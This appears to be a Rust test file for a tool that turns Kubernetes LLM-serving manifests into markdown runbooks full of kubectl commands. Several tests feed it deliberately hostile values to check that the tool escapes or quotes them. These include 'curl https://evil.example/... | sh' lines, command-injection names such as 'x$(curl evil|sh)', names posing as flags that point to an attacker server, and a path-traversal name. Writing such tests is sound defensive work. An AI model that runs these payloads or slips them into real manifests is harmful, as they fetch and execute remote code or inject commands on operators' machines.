    has(&text, "**No namespace.**");
    has(&text, "Deployment `chat` with no namespace set serves");
    has(&text, "kubectl get pods -l app=chat -o wide");
    has(&text, "kubectl port-forward svc/chat-svc 8000:80 &");
    has(
        &text,
        "KEY=\"$(kubectl get secret chat-key -o jsonpath='{.data.api-key}' | base64 -d)\"",
    );
    lacks(&text, "-n  ");
    lacks(&text, "Runbook: /");
    lacks(&text, "Namespace/ ");
}

#[test]
fn a_wrapper_flag_is_never_read_as_the_model_or_the_context() {
    let sglang = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: qwen, namespace: bot}
spec:
  selector: {matchLabels: {app: qwen}}
  template:
    metadata: {labels: {app: qwen}}
    spec:
      containers:
      - name: sglang
        image: lmsysorg/sglang:v0.4.9
        command: [python3, -m, sglang.launch_server, --model-path, Qwen/Qwen2.5-7B-Instruct, --port, "30000"]
        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(&sglang, "ask for the model `Qwen/Qwen2.5-7B-Instruct`");
    lacks(&sglang, "sglang.launch_server`");

    let llama = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: local, namespace: lab}
spec:
  selector: {matchLabels: {app: local}}
  template:
    metadata: {labels: {app: local}}
    spec:
      containers:
      - name: llama
        image: ghcr.io/ggml-org/llama.cpp:server-cuda
        command: [sh, -c]
        args: ["mkdir -p /cache && exec llama-server -m /models/llama-3-8b-instruct-q4_k_m.gguf --ctx-size 8192 -ngl 999 --port 8080"]
        resources: {limits: {memory: 16Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(&llama, "| `--ctx-size` | 8192 | 4096 |");
    has(
        &llama,
        "ask for the model `/models/llama-3-8b-instruct-q4_k_m.gguf`",
    );
    // 999 means every layer: the next value is a real reduction, not 995.
    has(&llama, "| `--n-gpu-layers` | 999 (every layer) | M − M/4");
    lacks(&llama, "| 995 |");
    // A Q4 GGUF is sized at 4 bits, not bf16.
    has(&llama, "8B parameters in 4-bit");
    lacks(&llama, "in bf16");
}

#[test]
fn logs_with_a_selector_show_every_line_and_a_leader_only_its_own() {
    let lws = runbook(
        r#"
apiVersion: leaderworkerset.x-k8s.io/v1
kind: LeaderWorkerSet
metadata: {name: big, namespace: ml}
spec:
  replicas: 2
  leaderWorkerTemplate:
    size: 2
    leaderTemplate:
      spec:
        containers:
        - name: leader
          image: vllm/vllm-openai:v0.11.0
          args: [--model, m/big-405b, --revision, r2, --tensor-parallel-size, "8", --pipeline-parallel-size, "2"]
          resources: {limits: {memory: 1000Gi, nvidia.com/gpu: 8}}
    workerTemplate:
      spec:
        containers:
        - name: worker
          image: vllm/vllm-openai:v0.11.0
          resources: {limits: {memory: 1000Gi, nvidia.com/gpu: 8}}
"#,
    );
    has(
        &lws,
        "kubectl -n ml logs -l leaderworkerset.sigs.k8s.io/name=big,leaderworkerset.sigs.k8s.io/worker-index=0 -c leader --prefix --since=15m --tail=-1",
    );
    has(
        &lws,
        "kubectl -n ml wait --for=condition=Available lws/big --timeout=20m",
    );
    // Workers run another container: the OOM check reads every container's status.
    has(
        &lws,
        ".status.containerStatuses[*].lastState.terminated.reason",
    );
    // TP 8 × PP 2 is what the group of two 8-GPU pods holds; TP 16 would leave the node.
    has(
        &lws,
        "| `--tensor-parallel-size` | 8 | keep | already spans a whole 8-GPU node",
    );
}

#[test]
fn kserve_without_a_serving_runtime_is_its_own_model_server_on_8080() {
    let text = runbook(
        r#"
apiVersion: serving.kserve.io/v1beta1
kind: InferenceService
metadata: {name: hf-llama, namespace: risk}
spec:
  predictor:
    model:
      modelFormat: {name: huggingface}
      args: [--model_id=meta-llama/Llama-3.1-8B-Instruct]
      resources: {limits: {memory: 40Gi, nvidia.com/gpu: "1"}}
"#,
    );
    has(&text, "container `kserve-container`");
    has(&text, "8080:8080 &");
    has(&text, "http://127.0.0.1:8080/v1/models/hf-llama");
    has(
        &text,
        "http://127.0.0.1:8080/openai/v1/models   # lists hf-llama",
    );
    has(
        &text,
        "hangar validate --golden golden/hf-llama.yaml --url http://127.0.0.1:8080/openai",
    );
    has(
        &text,
        "logs -l serving.kserve.io/inferenceservice=hf-llama -c kserve-container --prefix --since=15m --tail=-1",
    );
    has(
        &text,
        "kubectl -n risk wait --for=condition=Ready isvc/hf-llama --timeout=20m",
    );
    // No image in the input: how to see the one that runs.
    has(
        &text,
        "chosen by the operator at run time, not in the input; what runs: `kubectl -n risk get pods -l serving.kserve.io/inferenceservice=hf-llama -o jsonpath='{.items[*].spec.containers[*].image}'`",
    );
}

#[test]
fn a_flagger_canary_sends_commands_to_the_primary() {
    let canary = r#"
---
apiVersion: flagger.app/v1beta1
kind: Canary
metadata: {name: chat, namespace: ml}
spec: {targetRef: {apiVersion: apps/v1, kind: Deployment, name: chat}}
"#;
    let text = runbook(&format!("{}{canary}", vllm(VLLM_ARGS, "")));
    has(&text, "traffic is served by `deploy/chat-primary`");
    has(&text, "kubectl -n ml get pods -l app=chat-primary -o wide");
    has(
        &text,
        "kubectl -n ml logs deploy/chat-primary -c server --since=15m",
    );
    has(
        &text,
        "kubectl -n ml rollout status deploy/chat-primary --timeout=20m",
    );
    has(&text, "kubectl -n ml get canary chat");
    // Changes still go to the Deployment Flagger watches.
    has(&text, "set resources deploy/chat -c server");
}

#[test]
fn a_statefulset_rollback_deletes_pods_stuck_on_the_bad_revision() {
    let text = runbook(
        r#"
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: llm, namespace: ml}
spec:
  replicas: 2
  selector: {matchLabels: {app: llm}}
  template:
    metadata: {labels: {app: llm}}
    spec:
      containers:
      - name: vllm
        image: vllm/vllm-openai:v0.11.0
        args: [--model, m/llm-7b, --revision, r1]
        resources: {limits: {memory: 40Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(&text, "forced rollback");
    has(
        &text,
        "kubectl -n ml get pods -l app=llm -L controller-revision-hash",
    );
    has(&text, "kubectl -n ml delete pod llm-N");
}

/// A vLLM Deployment with `args` on nodes of `gpus` accelerators of `resource` each.
fn vllm_on(args: &str, resource: &str, gpus: u32) -> String {
    format!(
        r#"
apiVersion: v1
kind: Node
metadata: {{name: n1, labels: {{nvidia.com/gpu.product: NVIDIA-H100-80GB-HBM3}}}}
status: {{allocatable: {{cpu: "96", memory: 1000Gi, {resource}: "8"}}}}
---
apiVersion: apps/v1
kind: Deployment
metadata: {{name: big, namespace: ml}}
spec:
  selector: {{matchLabels: {{app: big}}}}
  template:
    metadata: {{labels: {{app: big}}}}
    spec:
      containers:
      - name: vllm
        image: vllm/vllm-openai:v0.11.0
        args: [--model, m/big-70b, --revision, r1, {args}]
        resources: {{limits: {{memory: 400Gi, {resource}: {gpus}}}}}
"#
    )
}

#[test]
fn the_next_tensor_parallel_size_is_a_power_of_two_that_the_pod_may_already_hold() {
    let roomy = runbook(&vllm_on(
        "--tensor-parallel-size, \"2\"",
        "nvidia.com/gpu",
        8,
    ));
    has(
        &roomy,
        "| `--tensor-parallel-size` | 2 | 4 | splits weights and KV cache over 4 GPUs; the pod already has 8 `nvidia.com/gpu`, so it needs no more |",
    );
    let three = runbook(&vllm_on(
        "--tensor-parallel-size, \"3\"",
        "nvidia.com/gpu",
        3,
    ));
    has(
        &three,
        "| `--tensor-parallel-size` | 3 | 4 | splits weights and KV cache over 4 GPUs: raise `nvidia.com/gpu` from 3 to 4 per pod with it, 1 more GPU per replica |",
    );
    let amd = runbook(&vllm_on("--tensor-parallel-size, \"2\"", "amd.com/gpu", 2));
    has(&amd, "raise `amd.com/gpu` from 2 to 4 per pod");
    lacks(&amd, "nvidia.com/gpu` from");

    let sglang = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: qwen, namespace: bot}
spec:
  selector: {matchLabels: {app: qwen}}
  template:
    metadata: {labels: {app: qwen}}
    spec:
      containers:
      - name: sglang
        image: lmsysorg/sglang:v0.4.9
        command: [python3, -m, sglang.launch_server, --model-path, Qwen/Qwen2.5-7B-Instruct, --tp, "2"]
        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 2}}
"#,
    );
    has(
        &sglang,
        "| `--tp` | 2 | 4 | splits the model over 4 GPUs: raise `nvidia.com/gpu` from 2 to 4 per pod",
    );
}

#[test]
fn the_index_escapes_its_links_and_says_how_to_find_a_missing_model() {
    let yaml = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: ollama, namespace: lab}
spec:
  selector: {matchLabels: {app: ollama}}
  template:
    metadata: {labels: {app: ollama}}
    spec:
      containers: [{name: ollama, image: "ollama/ollama:0.6.2", resources: {limits: {nvidia.com/gpu: 1}}}]
"#;
    let snapshot = snapshot_from_text("k8s/app.yaml", yaml);
    let inventory = discover(&snapshot, &Policy::default());
    let endpoint = &inventory.endpoints[0];
    let index = render_index(
        &[IndexEntry {
            endpoint,
            file: "odd name (1).md".into(),
            risks: None,
        }],
        "k8s/",
    );
    has(&index, "[lab/ollama](odd%20name%20%281%29.md)");
    has(
        &index,
        "not in the spec: the runbook's Check health asks the server",
    );
}

#[test]
fn file_names_stay_plain_files_inside_the_output_directory() {
    let yaml = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: "../rbpwn"}
spec:
  selector: {matchLabels: {app: x}}
  template:
    metadata: {labels: {app: x}}
    spec:
      containers: [{name: vllm, image: "vllm/vllm-openai:v0.11.0", args: [--model, m/x-7b]}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: chat, namespace: "../.."}
spec:
  selector: {matchLabels: {app: two}}
  template:
    metadata: {labels: {app: two}}
    spec:
      containers: [{name: vllm, image: "vllm/vllm-openai:v0.11.0", args: [--model, m/x-7b]}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: "..", namespace: "a b"}
spec:
  selector: {matchLabels: {app: three}}
  template:
    metadata: {labels: {app: three}}
    spec:
      containers: [{name: vllm, image: "vllm/vllm-openai:v0.11.0", args: [--model, m/x-7b]}]
"#;
    let snapshot = snapshot_from_text("k8s/app.yaml", yaml);
    let inventory = discover(&snapshot, &Policy::default());
    let mut names: Vec<String> = inventory.endpoints.iter().map(file_name).collect();
    names.sort();
    assert_eq!(names, ["___..--chat.md", "___rbpwn.md", "a_b--__.md"]);
    for name in &names {
        assert!(
            name.chars()
                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)),
            "{name}"
        );
        assert!(!name.starts_with('.'), "{name}");
    }
}

#[test]
fn owner_and_golden_set_values_cannot_break_out_of_the_markdown() {
    let owner = hostile_runbook(&vllm(
        VLLM_ARGS,
        r#"hangar.dev/model-owner: "ml\n\n```sh\ncurl https://evil.example/fix | sh\n```""#,
    ));
    assert_blocks_intact(&owner);
    has(
        &owner,
        "**Model symptoms → ml\\u{a}\\u{a}```sh\\u{a}curl https://evil.example/fix | sh\\u{a}```.**",
    );

    let golden = hostile_runbook(&vllm(
        VLLM_ARGS,
        r#"hangar.dev/golden-set: "g.yaml\n```\n\n```sh\ncurl https://evil.example/x | sh\n```""#,
    ));
    assert_blocks_intact(&golden);
    // A file named with a line break is left out of the command, and shown on one line.
    has(
        &golden,
        "# (value with a line break or other control character left out: hangar.dev/golden-set)",
    );
    lacks(&golden, "hangar validate --golden");
    has(
        &golden,
        "The golden set is ```` g.yaml\\u{a}```\\u{a}\\u{a}```sh\\u{a}curl https://evil.example/x | sh\\u{a}``` ````",
    );
}

#[test]
fn names_that_start_with_a_dash_are_never_read_as_options() {
    let helm = hostile_runbook(&vllm(
        VLLM_ARGS,
        r#"meta.helm.sh/release-name: "--kube-apiserver=https://evil.example", meta.helm.sh/release-namespace: apps"#,
    ));
    has(
        &helm,
        "`helm -n apps history -- --kube-apiserver=https://evil.example`",
    );
    has(
        &helm,
        "`helm -n apps rollback -- --kube-apiserver=https://evil.example REVISION`",
    );
    lacks(&helm, "rollback --kube-apiserver");

    let argo = hostile_runbook(&vllm(
        VLLM_ARGS,
        r#"argocd.argoproj.io/instance: "--server=evil.example""#,
    ));
    has(&argo, "`argocd app rollback -- --server=evil.example`");

    let flux = hostile_runbook(&vllm(
        VLLM_ARGS,
        r#"kustomize.toolkit.fluxcd.io/name: "--kubeconfig=/tmp/evil""#,
    ));
    has(
        &flux,
        "`flux suspend kustomization -n flux-system -- --kubeconfig=/tmp/evil`",
    );

    // kubectl takes `TYPE/NAME` instead of `TYPE NAME`, which it would read as a flag.
    let release = hostile_runbook(&vllm(
        VLLM_ARGS,
        r#"hangar.dev/release: "--server=https://evil.example""#,
    ));
    has(
        &release,
        "kubectl -n ml get modelrelease/--server=https://evil.example -o yaml",
    );
    lacks(&release, "modelrelease --server");

    let pod = hostile_runbook(
        r#"
apiVersion: v1
kind: Pod
metadata: {name: "--server=https://evil.example", namespace: lab}
spec:
  containers:
  - name: vllm
    image: vllm/vllm-openai:v0.11.0
    args: [--model, m/x-7b, --revision, r1]
"#,
    );
    has(
        &pod,
        "kubectl -n lab get pod/--server=https://evil.example\n",
    );
    lacks(&pod, "pod --server");
}

#[test]
fn names_from_the_input_are_quoted_in_every_command() {
    let deployment = hostile_runbook(&vllm(VLLM_ARGS, "").replace(
        "  name: chat\n  namespace: ml\n",
        "  name: \"x$(curl evil|sh)\"\n  namespace: ml\n",
    ));
    has(
        &deployment,
        "kubectl -n ml rollout status 'deploy/x$(curl evil|sh)' --timeout=20m",
    );
    has(
        &deployment,
        "kubectl -n ml rollout history 'deploy/x$(curl evil|sh)'\n",
    );
    has(
        &deployment,
        "kubectl -n ml rollout undo 'deploy/x$(curl evil|sh)' --to-revision=$REV",
    );
    has(
        &deployment,
        "set resources 'deploy/x$(curl evil|sh)' -c server",
    );
    has(
        &deployment,
        "hangar validate --golden 'golden/x$(curl evil|sh).yaml'",
    );
    has(
        &deployment,
        "`hangar triage 'Deployment/ml/x$(curl evil|sh)'`",
    );
    lacks(&deployment, " deploy/x$(");

    let named = |yaml: String| yaml.replace("name: narrator", "name: \"n$(id)\"");
    let raw = hostile_runbook(&named(isvc(
        "serving.kserve.io/deploymentMode: RawDeployment",
        "minReplicas: 2",
    )));
    has(
        &raw,
        "kubectl -n risk rollout history 'deploy/n$(id)-predictor'",
    );
    has(&raw, "kubectl -n risk edit isvc 'n$(id)'");
    has(
        &raw,
        "kubectl -n risk port-forward 'svc/n$(id)-predictor' 8080:80 &",
    );
    let serverless = hostile_runbook(&named(isvc("", "canaryTrafficPercent: 10")));
    has(
        &serverless,
        "kubectl -n risk patch isvc 'n$(id)' --type merge",
    );
    has(
        &serverless,
        "kubectl -n risk wait --for=condition=Ready 'isvc/n$(id)'",
    );
    has(
        &serverless,
        "get pod -l 'serving.kserve.io/inferenceservice=n$(id)' -o name | head -1 | cut -d/ -f2)",
    );
    lacks(&serverless, "=n$(id) ");
    lacks(&raw, "=n$(id) ");
}

#[test]
fn the_key_is_read_in_the_server_container_of_a_pod_kubectl_can_attach_to() {
    // A sidecar listed first, and a key that is not in a Secret.
    let deployment = runbook(
        &vllm(VLLM_ARGS, "")
            .replace(
                "{secretKeyRef: {name: chat-key, key: api-key}}",
                "{configMapKeyRef: {name: chat-cfg, key: api-key}}",
            )
            .replace(
                "      containers:\n      - name: server\n",
                "      containers:\n      - {name: proxy, image: \"envoyproxy/envoy:v1.31.0\"}\n      - name: server\n",
            ),
    );
    has(
        &deployment,
        r#"KEY="$(kubectl -n ml exec deploy/chat -c server -- printenv VLLM_API_KEY)""#,
    );

    // kubectl exec cannot attach to an InferenceService: the first predictor pod instead.
    let kserve = runbook(&isvc("", "canaryTrafficPercent: 10").replace(
        "    ports: [{containerPort: 8080}]\n",
        "    ports: [{containerPort: 8080}]\n    env: [{name: VLLM_API_KEY, valueFrom: {configMapKeyRef: {name: keys, key: narrator}}}]\n",
    ));
    has(
        &kserve,
        r#"KEY="$(kubectl -n risk exec "$(kubectl -n risk get pod -l serving.kserve.io/inferenceservice=narrator -o name | head -1)" -c kserve-container -- printenv VLLM_API_KEY)""#,
    );
    lacks(&kserve, "exec isvc/");
}

/// A RayService whose head runs the server with a key, and whose head template shares
/// `app: summarizer` with the workers': the first pod that label finds is a worker
/// (`summarizer-…-gpu-worker-…` sorts before `summarizer-…-head-…`), which has no `ray-head`
/// container.
const RAY_SUMMARIZER: &str = r#"
apiVersion: ray.io/v1
kind: RayService
metadata: {name: summarizer, namespace: lab}
spec:
  serveConfigV2: |
    applications:
      - name: summarizer
        route_prefix: /
        import_path: summarizer.app:deployment
  rayClusterConfig:
    headGroupSpec:
      template:
        metadata: {labels: {app: summarizer}}
        spec:
          containers:
          - name: ray-head
            image: rayproject/ray-ml:2.9.3-py310-gpu
            command: [sh, -c]
            args: ["ray start --head --block & serve run summarizer.app:deployment --api-key $(SERVE_API_KEY)"]
            env: [{name: SERVE_API_KEY, valueFrom: {configMapKeyRef: {name: serve-cfg, key: api-key}}}]
    workerGroupSpecs:
    - groupName: gpu
      replicas: 2
      template:
        metadata: {labels: {app: summarizer}}
        spec:
          containers: [{name: ray-worker, image: rayproject/ray-ml:2.9.3-py310-gpu, resources: {limits: {memory: 48Gi, nvidia.com/gpu: 1}}}]
"#;

/// The one word `kubectl exec` reaches the head of RayService `name` in `lab` with: its head
/// Service `service` when it exists, else the head pod of the Ray cluster the RayService's status
/// names (active, else pending).
fn ray_head(name: &str, service: &str) -> String {
    format!(
        r#""$({{ kubectl -n lab get svc/{service} -o name --ignore-not-found; kubectl -n lab get pod -l "ray.io/node-type=head,ray.io/cluster=$(kubectl -n lab get rayservice/{name} -o jsonpath='{{.status.activeServiceStatus.rayClusterName}} {{.status.pendingServiceStatus.rayClusterName}}' | awk '{{print $1}}')" -o name; }} | head -1)""#
    )
}

#[test]
fn a_ray_services_key_is_read_on_its_head_pod() {
    let yaml = RAY_SUMMARIZER;
    // The head Service, and before KubeRay creates it (1.2 and later: once Serve runs), the head
    // of the Ray cluster the RayService's status names.
    let read_on_head = r#"KEY="$(kubectl -n lab exec "$({ kubectl -n lab get svc/summarizer-head-svc -o name --ignore-not-found; kubectl -n lab get pod -l "ray.io/node-type=head,ray.io/cluster=$(kubectl -n lab get rayservice/summarizer -o jsonpath='{.status.activeServiceStatus.rayClusterName} {.status.pendingServiceStatus.rayClusterName}' | awk '{print $1}')" -o name; } | head -1)" -c ray-head -- printenv SERVE_API_KEY)""#;
    let serve_status = format!(
        "`kubectl -n lab exec {} -- serve status`",
        ray_head("summarizer", "summarizer-head-svc")
    );
    let labelled = runbook(yaml);
    has(&labelled, read_on_head);
    lacks(
        &labelled,
        "exec \"$(kubectl -n lab get pod -l app=summarizer -o name",
    );
    // Ray's own view too: `ray.io/node-type=head` beside the shared label would find the head of
    // the cluster an upgrade is preparing as readily as the active one's; the cluster's own name
    // finds one head.
    has(&labelled, &serve_status);
    lacks(&labelled, "app=summarizer,ray.io/node-type=head");

    // No label of its own: the same commands; `ray.io/is-ray-node=yes` would find any Ray
    // cluster's head in the namespace.
    let unlabelled = runbook(&yaml.replace("        metadata: {labels: {app: summarizer}}\n", ""));
    has(&unlabelled, read_on_head);
    has(&unlabelled, &serve_status);
    lacks(&unlabelled, "ray.io/is-ray-node=yes");

    // A worker's container is read on a worker pod.
    let on_worker = runbook(
        &yaml
            .replace(
                "            command: [sh, -c]\n            args: [\"ray start --head --block & serve run summarizer.app:deployment --api-key $(SERVE_API_KEY)\"]\n            env: [{name: SERVE_API_KEY, valueFrom: {configMapKeyRef: {name: serve-cfg, key: api-key}}}]\n",
                "",
            )
            .replace(
                "resources: {limits: {memory: 48Gi, nvidia.com/gpu: 1}}}]",
                "resources: {limits: {memory: 48Gi, nvidia.com/gpu: 1}}, args: [--api-key, $(SERVE_API_KEY)], env: [{name: SERVE_API_KEY, value: from-the-manifest}]}]",
            ),
    );
    has(
        &on_worker,
        r#"KEY="$(kubectl -n lab exec "$(kubectl -n lab get pod -l app=summarizer,ray.io/node-type=worker -o name | head -1)" -c ray-worker -- printenv SERVE_API_KEY)""#,
    );
}

/// Runs `commands` in `sh` with a `kubectl` that answers as KubeRay's objects would on a first
/// deploy whose Serve applications fail (no head Service; a pending Ray cluster, no active one),
/// or once the head Service exists when `service`; any other call prints its arguments, one
/// `[…]` each.
#[cfg(unix)]
fn run_against_kuberay(commands: &str, service: bool) -> String {
    let script = format!(
        r#"kubectl() {{
  case "$*" in
    "-n lab get svc/summarizer-head-svc -o name --ignore-not-found")
      if [ -n "$SERVICE" ]; then echo service/summarizer-head-svc; fi ;;
    "-n lab get rayservice/summarizer -o jsonpath={{.status.activeServiceStatus.rayClusterName}} {{.status.pendingServiceStatus.rayClusterName}}")
      printf ' %s' summarizer-raycluster-x7k2p ;;
    "-n lab get pod -l ray.io/node-type=head,ray.io/cluster=summarizer-raycluster-x7k2p -o name")
      echo pod/summarizer-raycluster-x7k2p-head-5w8tq ;;
    *) printf '[%s]' "$@"; echo ;;
  esac
}}
{commands}
"#
    );
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(script)
        .env("SERVICE", if service { "1" } else { "" })
        .output()
        .unwrap();
    // Not stderr's emptiness: once `head -1` has the Service, the pod lookup after it may write
    // to a closed pipe.
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    String::from_utf8(out.stdout).unwrap()
}

#[cfg(unix)]
#[test]
fn a_ray_services_head_is_reached_before_kuberay_creates_its_head_service() {
    let text = runbook(RAY_SUMMARIZER);
    let serve_status = (text.split("Ray's own view: `").nth(1))
        .and_then(|rest| rest.split('`').next())
        .unwrap();
    let read_key = text.lines().find(|l| l.starts_with("KEY=")).unwrap();
    let commands = format!("{serve_status}\n{read_key}\necho \"$KEY\"");

    // A first deploy: the head pod of the pending Ray cluster, one word.
    assert_eq!(
        run_against_kuberay(&commands, false),
        "[-n][lab][exec][pod/summarizer-raycluster-x7k2p-head-5w8tq][--][serve][status]\n\
         [-n][lab][exec][pod/summarizer-raycluster-x7k2p-head-5w8tq][-c][ray-head][--][printenv][SERVE_API_KEY]\n"
    );
    // Once Serve runs: the head Service, which follows the active cluster.
    assert_eq!(
        run_against_kuberay(&commands, true),
        "[-n][lab][exec][service/summarizer-head-svc][--][serve][status]\n\
         [-n][lab][exec][service/summarizer-head-svc][-c][ray-head][--][printenv][SERVE_API_KEY]\n"
    );
}

#[test]
fn a_long_ray_service_name_reaches_the_head_service_kuberay_named() {
    let yaml = |name: &str, extra: &str| {
        format!(
            r#"
apiVersion: ray.io/v1
kind: RayService
metadata: {{name: {name}, namespace: lab}}
spec:
  serveConfigV2: |
    applications:
      - name: summarizer
        route_prefix: /
        import_path: summarizer.app:deployment
  rayClusterConfig:
    headGroupSpec:
      template:
        spec:
          containers: [{{name: ray-head, image: rayproject/ray-ml:2.9.3-py310-gpu}}]
{extra}"#
        )
    };
    let serve_status = |name: &str, service: &str| {
        format!(
            "`kubectl -n lab exec {} -- serve status`",
            ray_head(name, service)
        )
    };
    // `…-team-head-svc` is 53 characters: KubeRay up to 1.3 keeps its last 50, and a name may not
    // start with `-`.
    let long = "llm-summarizer-for-the-customer-support-team";
    let text = runbook(&yaml(long, ""));
    has(
        &text,
        &serve_status(long, "rsummarizer-for-the-customer-support-team-head-svc"),
    );

    // KubeRay 1.4 and later keep it whole: the input's Service says which.
    let whole = format!("{long}-head-svc");
    let service = format!(
        "---\napiVersion: v1\nkind: Service\nmetadata: {{name: {whole}, namespace: lab}}\n"
    );
    has(&runbook(&yaml(long, &service)), &serve_status(long, &whole));

    // A name that starts with a digit starts with `r`.
    has(
        &runbook(&yaml("7b-chat", "")),
        &serve_status("7b-chat", "rb-chat-head-svc"),
    );
}
